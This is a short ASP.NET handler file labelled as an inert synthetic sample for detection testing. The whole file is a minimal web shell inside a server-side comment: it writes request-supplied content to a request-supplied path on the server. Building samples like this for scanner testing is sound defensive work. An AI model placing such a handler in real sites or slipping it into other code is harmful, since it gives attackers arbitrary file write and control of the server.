<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ WebHandler Language="C#" Class="W"%>
public class W : IHttpHandler { public void ProcessRequest(HttpContext context) { string f = context.Request["f"]; using (var w = new StreamWriter(context.Server.MapPath(f))) w.Write(context.Request["c"]); } public bool IsReusable { get { return false; } } }
--%>
